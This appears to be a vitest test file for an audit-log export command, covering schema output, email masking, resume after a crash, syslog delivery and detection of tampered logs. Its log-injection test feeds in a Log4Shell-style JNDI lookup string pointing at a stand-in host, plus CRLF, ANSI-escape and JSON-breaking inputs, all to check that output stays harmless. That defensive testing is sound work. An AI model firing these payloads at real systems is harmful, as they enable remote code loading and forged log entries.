import { createHash } from "node:crypto"
import { once } from "node:events"
import { appendFileSync, readFileSync, statSync, truncateSync, writeFileSync } from "node:fs"
import { createServer } from "node:net"
import { join } from "node:path"
import { DatabaseSync } from "node:sqlite"
import { describe, expect, it } from "vitest"
import { systemClock } from "../../src/core/clock.ts"
import { sqlite } from "../../src/sqlite.ts"
import { type App, askForMail, createApp, signIn } from "../app.ts"
import { ecsFaults } from "../exporting/ecs-faults.ts"
import { ocsfFaults } from "../exporting/ocsf-faults.ts"
import { createDraw } from "../tamper/draw.ts"
import { makeLog } from "../tamper/make-log.ts"
import { type Finished, finish, finishJson, ownFolder, run } from "./run-command.ts"

// A record of any format.
type Told = Record<string, { [name: string]: unknown }> & { readonly index: number; readonly state: string }

const LOOK_UP = ["$", "{jndi:ldap://evil.example/a}"].join("")
const FORGED = `line\r\nforged: \u001b[2J ${LOOK_UP}\u2028`

const linesOf = ({ out }: Pick<Finished, "out">) => out.split("\n").slice(0, -1)
const toldBy = (finished: Pick<Finished, "out">): readonly Told[] => linesOf(finished).map((line) => JSON.parse(line))

/** A site where people signed in, with all of its log sealed and signed. */
async function siteOf(...addresses: readonly string[]) {
  const path = join(ownFolder(), "site.db")
  const app = createApp({ path, clock: systemClock })
  for (const address of addresses) await signIn(app, address)
  const env = { DATABASE_URL: `sqlite:${path}` }
  return { app, path, env, command: (args: string) => finish(`audit export ${args}`, { env }) }
}

async function untilSigned({ store, events }: App): Promise<number> {
  const look = async () => (await store.sealing.latestCheckpoint())?.size ?? 0
  await expect.poll(async () => (await look()) >= (await events()).length, { timeout: 10_000 }).toBe(true)
  return look()
}

/** A sealed log of many events, without a site. */
async function logOf(events: number) {
  const path = join(ownFolder(), "log.db")
  const plan = { events, passes: 3, erased: 0, pruned: 0, isLate: false, waiting: 0 }
  await makeLog(path, plan, createDraw(7))
  return { path, env: { DATABASE_URL: `sqlite:${path}` } }
}

function ocsfState({ unmapped }: Told): unknown {
  return (unmapped?.["log"] as { readonly state?: unknown } | undefined)?.state
}

const export_ = (args: string, env: Record<string, string>) => finish(`audit export ${args}`, { env })

describe("linklatch audit export", () => {
  it("writes every sealed event as records that fit their published schema (AUD-12)", async () => {
    const { app, command } = await siteOf("ada@example.com", "bob@example.com")
    const message = await askForMail(app, app.browser(), "bob@example.com")
    for (const browser of [app.browser(), app.browser()]) await browser.press(message)
    await app.auth.users.disable((await app.auth.users.find({ email: "bob@example.com" }))?.id ?? "")
    await app.auth.audit.record({ type: "shop.order_placed", email: "ada@example.com", detail: { "order id": "A.17" } })
    const size = await untilSigned(app)
    const events = await app.events()
    const ocsf = await command("--format ocsf")
    expect([ocsf.code, ocsf.err]).toEqual([0, ""])
    for (const told of toldBy(ocsf)) expect(ocsfFaults(told), JSON.stringify(told)).toEqual([])
    expect(toldBy(ocsf).map(({ metadata }) => metadata?.["sequence"])).toEqual(events.map((_event, index) => index))
    expect(toldBy(ocsf).map(({ metadata }) => metadata?.["uid"])).toEqual(events.map(({ id }) => id))
    const ecs = await command("--format ecs")
    for (const told of toldBy(ecs)) expect(ecsFaults(told), JSON.stringify(told)).toEqual([])
    expect(toldBy(ecs).map(({ event }) => event?.["action"])).toEqual(events.map(({ type }) => type))
    const labels = toldBy(ecs).map((told) => told["labels"])
    expect(new Set(labels.map((label) => label?.["log_checkpoint_size"]))).toEqual(new Set([String(size)]))
    expect(new Set(labels.map((label) => label?.["log_origin"]))).toEqual(new Set(["login.example.com/auth/log"]))
    await app.close()
  })

  it("writes lines of our own from which anybody makes the leaf and its hash again", async () => {
    const { app, command } = await siteOf("ada@example.com")
    await untilSigned(app)
    for (const line of linesOf(await command(""))) {
      const { hash, leaf } = JSON.parse(line)
      // As docs/guides/export-the-log.md says: members sorted by name, no blanks.
      const sorted = (value: unknown): unknown =>
        typeof value === "object" && value !== null
          ? Object.fromEntries(
              Object.entries(value)
                .sort()
                .map(([name, member]) => [name, sorted(member)]),
            )
          : value
      expect(
        createHash("sha256")
          .update(`\0${JSON.stringify(sorted(leaf))}`)
          .digest("hex"),
      ).toBe(hash)
    }
    await app.close()
  })

  it("masks mail addresses unless it is asked for them", async () => {
    const { app, command } = await siteOf("ada@example.com")
    await untilSigned(app)
    for (const format of ["ocsf", "ecs", "jsonl"]) {
      const masked = await command(`--format ${format}`)
      expect(masked.out).toContain("a…@example.com")
      expect(masked.out).not.toContain("ada@example.com")
      expect((await command(`--format ${format} --show-emails`)).out).toContain("ada@example.com")
    }
    await app.close()
  })

  it("writes one harmless line for each event, whatever people typed (LOG-5)", async () => {
    const { app, command } = await siteOf()
    const userAgent = `x\u009b1m"}],{"a":"${LOOK_UP}`
    await signIn(app, "ada@example.com", app.browser({ userAgent }))
    await app.auth.audit.record({
      type: "shop.note",
      detail: { 'a"},{': FORGED },
      client: { ip: "192.0.2.1", userAgent: "a\r\nb\u0000\u0085\ufeff" },
    })
    await untilSigned(app)
    const count = (await app.events()).length
    for (const format of ["ocsf", "ecs", "jsonl"]) {
      const { out } = await command(`--format ${format}`)
      expect(out).not.toMatch(/[^\P{Cc}\n]|[\u2028\u2029\u202a-\u202e\ufeff]|\$\{/u)
      expect(toldBy({ out })).toHaveLength(count)
      for (const text of [FORGED, userAgent]) {
        expect(JSON.stringify(toldBy({ out }))).toContain(JSON.stringify(text))
      }
    }
    await app.close()
  })

  it("keeps to indexes, times and a type", async () => {
    const { app, command } = await siteOf("ada@example.com", "bob@example.com")
    const size = await untilSigned(app)
    const indexes = async (args: string) => toldBy(await command(args)).map(({ index }) => index)
    expect(await indexes("--from 3 --to 5")).toEqual([3, 4, 5])
    expect(await indexes(`--from ${size - 1}`)).toEqual([size - 1])
    const types = toldBy(await command("--type session_created")).map(({ leaf }) => leaf?.["type"])
    expect(types).toEqual(["session_created", "session_created"])
    const [, second] = toldBy(await command("")).map(({ leaf }) => Number(leaf?.["at"]))
    const since = new Date(second ?? 0).toISOString()
    const all = (await app.events()).filter(({ at }) => at >= (second ?? 0))
    expect(await indexes(`--since ${since}`)).toHaveLength(all.length)
    expect(await indexes(`--until ${since}`)).toHaveLength(size - all.length)
    expect((await command(`--from ${size + 9}`)).err).toContain(`${size} events are sealed`)
    await app.close()
  })

  it("follows what is sealed from then on, until Ctrl-C", async () => {
    const { app, env } = await siteOf("ada@example.com")
    const size = await untilSigned(app)
    const command = run("audit export --follow --format ecs", { env })
    await expect.poll(() => linesOf({ out: command.out() }).length, { timeout: 10_000 }).toBe(size)
    await signIn(app, "bob@example.com")
    const after = await untilSigned(app)
    await expect.poll(() => linesOf({ out: command.out() }).length, { timeout: 10_000 }).toBe(after)
    command.child.kill("SIGINT")
    expect([await command.ended, command.err()]).toEqual([0, ""])
    const told = toldBy({ out: command.out() })
    expect(told.map(({ event }) => event?.["sequence"])).toEqual(told.map((_told, index) => index))
    // None is told before its checkpoint is signed.
    for (const { event, labels } of told) {
      expect(Number(labels?.["log_checkpoint_size"])).toBeGreaterThan(Number(event?.["sequence"]))
    }
    await app.close()
  })

  it("says what waits to be sealed, and leaves it for the next time", async () => {
    const { app, path, env } = await siteOf("ada@example.com")
    const size = await untilSigned(app)
    await app.close()
    const store = sqlite(path)
    const nobody = { ip: null, userAgent: null }
    await store.audit.append({ type: "shop.note", at: 1, userId: null, address: null, client: nobody, detail: {} })
    await store.close()
    const { out, err, code } = await export_("", env)
    expect([linesOf({ out }).length, code]).toEqual([size, 0])
    expect(err).toContain("1 events wait to be sealed")
  })

  it.each([
    ["--format csv", "Allowed choices are ocsf, ecs, jsonl"],
    ["--output a --syslog udp://127.0.0.1", "not both"],
    ["--resume", "--output"],
    ["--resume --output a --state b", "leave out --state"],
    ["--since 2026-02-30", "2026-11-21"],
    ["--until 2026-11-21T10:00", "without a zone"],
    ["--syslog http://siem.example.com", "Give tls://host"],
  ])("refuses `%s` and says why", async (args, words) => {
    const { env } = await logOf(1)
    const { code, err, out } = await export_(args, env)
    expect([out, err]).toEqual(["", expect.stringContaining(words)])
    expect(code).toBe(2)
  })
})

describe("linklatch audit export --output", () => {
  it("goes on after the last whole line, whenever it was killed", async () => {
    const { env } = await logOf(30_000)
    const file = join(ownFolder(), "audit.jsonl")
    const whole = join(ownFolder(), "whole.jsonl")
    expect(await export_(`--format ecs --output ${whole}`, env)).toMatchObject({
      ...{ code: 0, out: "", err: "Exported 30 000 events, index 0 to 29999.\n" },
    })
    // Killed four times, each time further on; a killed process leaves at most one torn line.
    for (const part of [1, 2, 3, 4]) {
      const command = run(`audit export --format ecs --output ${file} --resume`, { env })
      const least = (statSync(whole).size * part) / 8
      await expect
        .poll(() => statSync(file, { throwIfNoEntry: false })?.size ?? 0, { interval: 2, timeout: 10_000 })
        .toBeGreaterThan(least)
      command.child.kill("SIGKILL")
      await command.ended
      truncateSync(file, statSync(file).size - part * 7)
    }
    expect(readFileSync(file).length).toBeLessThan(statSync(whole).size)
    expect((await export_(`--format ecs --output ${file} --resume`, env)).code).toBe(0)
    expect(readFileSync(file).equals(readFileSync(whole))).toBe(true)
    expect((await export_(`--format ecs --output ${file} --resume`, env)).err).toContain("nothing to export")
    expect(readFileSync(file).equals(readFileSync(whole))).toBe(true)
  })

  it("is its owner's alone, and overwrites nothing", async () => {
    const { env } = await logOf(10)
    const file = join(ownFolder(), "audit.jsonl")
    await export_(`--output ${file}`, env)
    expect(statSync(file).mode & 0o777).toBe(0o600)
    const before = readFileSync(file, "utf8")
    const again = await export_(`--output ${file}`, env)
    expect([again.code, again.err]).toEqual([1, expect.stringContaining("add --resume")])
    appendFileSync(file, "somebody's notes\n")
    const foreign = await export_(`--output ${file} --resume`, env)
    expect([foreign.code, foreign.err]).toEqual([1, expect.stringContaining("no record of this format")])
    writeFileSync(file, before)
    expect((await export_(`--format ocsf --output ${file} --resume`, env)).err).toContain("no record of this format")
    expect(readFileSync(file, "utf8")).toBe(before)
  })

  it("doesn't go on in a file of another log", async () => {
    const [one, other] = [await logOf(10), await siteOf("ada@example.com", "bob@example.com", "carol@example.com")]
    await untilSigned(other.app)
    const file = join(ownFolder(), "audit.jsonl")
    await export_(`--output ${file}`, one.env)
    const { code, error } = await finishJson(`audit export --output ${file} --resume`, { env: other.env })
    expect([code, error.code, error.index]).toEqual([1, "other_log", 9])
    await other.app.close()
  })

  it("says as JSON what came of it", async () => {
    const { env } = await logOf(10)
    const file = join(ownFolder(), "audit.jsonl")
    const { told } = await finishJson(`audit export --output ${file} --from 4`, { env })
    expect(told).toEqual({ exported: 6, from: 4, through: 9, missing: 0, altered: 0, unsealed: 0 })
  })

  it("exports a hundred thousand events in the memory of a few", async () => {
    const { env } = await logOf(100_000)
    const file = join(ownFolder(), "audit.jsonl")
    const { code, err } = await finish(`audit export --format ocsf --output ${file}`, {
      ...{ env, nodeOptions: ["--max-old-space-size=48"] },
    })
    expect([code, err]).toEqual([0, "Exported 100 000 events, index 0 to 99999.\n"])
    // More than twice as much as it had.
    expect(statSync(file).size).toBeGreaterThan(2 * 48 * 1024 * 1024)
  }, 120_000)
})

describe("linklatch audit export --syslog", () => {
  /** A server that keeps what it is sent, as RFC 6587 frames. */
  async function syslogServer() {
    let received = Buffer.alloc(0)
    const server = createServer((socket) => {
      socket.on("data", (chunk) => {
        received = Buffer.concat([received, Buffer.from(chunk)])
      })
      socket.on("error", () => undefined)
    }).listen(0, "127.0.0.1")
    await once(server, "listening")
    const address = server.address()
    const port = typeof address === "object" ? address?.port : 0
    const messages = () => {
      const all: string[] = []
      for (let at = 0; at < received.length; ) {
        const blank = received.indexOf(" ", at)
        const length = Number(received.subarray(at, blank).toString())
        all.push(received.subarray(blank + 1, blank + 1 + length).toString())
        at = blank + 1 + length
      }
      return all
    }
    return { url: `tcp://127.0.0.1:${port}`, messages, close: () => new Promise((resolve) => server.close(resolve)) }
  }

  it("sends each event once, and goes on from its file of state", async () => {
    const { app, env } = await siteOf("ada@example.com")
    const size = await untilSigned(app)
    const server = await syslogServer()
    const state = join(ownFolder(), "siem.json")
    const args = `--format ocsf --syslog ${server.url} --state ${state}`
    expect((await export_(args, env)).err).toContain(`Exported ${size} events`)
    await expect.poll(() => server.messages().length).toBe(size)
    await signIn(app, "bob@example.com")
    const after = await untilSigned(app)
    expect((await export_(args, env)).code).toBe(0)
    await expect.poll(() => server.messages().length).toBe(after)
    const events = await app.events()
    for (const [index, message] of server.messages().entries()) {
      const event = events[index]
      const [, pri, at, kind, data, text] =
        /^<(\d+)>1 (\S+) \S+ linklatch \d+ (\S+) (\[.*?[^\\]"\]) (.*)$/.exec(message) ?? []
      expect([Math.floor(Number(pri) / 8), at]).toEqual([13, new Date(event?.at ?? 0).toISOString()])
      expect([kind, data]).toEqual([event?.type, `[event@32473 id="${event?.id}" idx="${index}"]`])
      expect(ocsfFaults(JSON.parse((text ?? "").replace(/^\ufeff/, "")))).toEqual([])
    }
    expect(JSON.parse(readFileSync(state, "utf8"))).toMatchObject({ index: after - 1 })
    await Promise.all([app.close(), server.close()])
  })

  it("keeps its place when the server is gone", async () => {
    const { env } = await logOf(10)
    const server = await syslogServer()
    await server.close()
    const state = join(ownFolder(), "siem.json")
    const { code, err } = await export_(`--syslog ${server.url} --state ${state}`, env)
    expect([code, err]).toEqual([1, expect.stringContaining("syslog server")])
    expect(statSync(state, { throwIfNoEntry: false })).toBeUndefined()
  })
})

describe("an export of a log that isn't as it was sealed", () => {
  async function tamperedLog(...statements: readonly string[]) {
    const { path, env } = await logOf(600)
    const database = new DatabaseSync(path)
    for (const trigger of database.prepare("select name from sqlite_schema where type = 'trigger'").all())
      database.exec(`drop trigger "${trigger["name"]}"`)
    for (const statement of statements) database.exec(statement)
    database.close()
    return env
  }

  it.each(["ocsf", "ecs", "jsonl"])(
    "tells all of it, says where it isn't, and ends with code 3, as %s",
    async (format) => {
      const env = await tamperedLog(
        "update auth_events set at = at + 1 where seq = (select seq from auth_events order by seq limit 1 offset 20)",
        "delete from auth_events where seq = (select seq from auth_events order by seq limit 1 offset 300)",
      )
      const finished = await export_(`--format ${format}`, env)
      expect(finished.code).toBe(3)
      expect(finished.err).toContain("At index 20 an event was altered.")
      expect(finished.err).toContain("1 events are missing and 1 were altered, the first of them at index 20")
      const told = toldBy(finished)
      expect(told).toHaveLength(600)
      const states = told.map((one) => one.state ?? one["labels"]?.["log_state"] ?? ocsfState(one))
      const odd = states.flatMap((state, index) => (state === "sealed" ? [] : [[index, state]]))
      expect(odd).toEqual([
        [20, "altered"],
        [300, "missing"],
      ])
      for (const one of told)
        if (format !== "jsonl") expect((format === "ecs" ? ecsFaults : ocsfFaults)(one)).toEqual([])
    },
  )

  it("isn't gone on with where the file ends with another hash", async () => {
    const { env, path } = await logOf(20)
    const file = join(ownFolder(), "audit.jsonl")
    await export_(`--output ${file} --to 9`, env)
    const database = new DatabaseSync(path)
    database.exec("update audit_tiles set hashes = zeroblob(length(hashes)) where level = 0")
    database.close()
    const { code, error } = await finishJson(`audit export --output ${file} --resume`, { env })
    expect([code, error.code, error.index]).toEqual([1, "other_log", 9])
  })

  it("leaves out what was pruned, and tells whoever comes too late", async () => {
    const path = join(ownFolder(), "log.db")
    await makeLog(path, { events: 600, passes: 2, erased: 0, pruned: 1, isLate: false, waiting: 0 }, createDraw(3))
    const env = { DATABASE_URL: `sqlite:${path}` }
    const all = await export_("", env)
    expect([all.code, all.err]).toEqual([0, ""])
    expect(toldBy(all)[0]?.index).toBe(256)
    expect((await export_("--from 10", env)).err).toContain("Events 10 to 255 were pruned")
  })

  it("tells events in the order in which they were sealed, not of their positions", async () => {
    const path = join(ownFolder(), "log.db")
    await makeLog(path, { events: 900, passes: 4, erased: 2, pruned: 0, isLate: true, waiting: 5 }, createDraw(5))
    const finished = await export_("", { DATABASE_URL: `sqlite:${path}` })
    expect(finished.code).toBe(0)
    const told = toldBy(finished)
    expect(told.map(({ index }) => index)).toEqual(told.map((_told, index) => index))
    expect(new Set(told.map(({ state }) => state))).toEqual(new Set(["sealed"]))
    expect(finished.err).toContain("5 events wait to be sealed")
  })
})
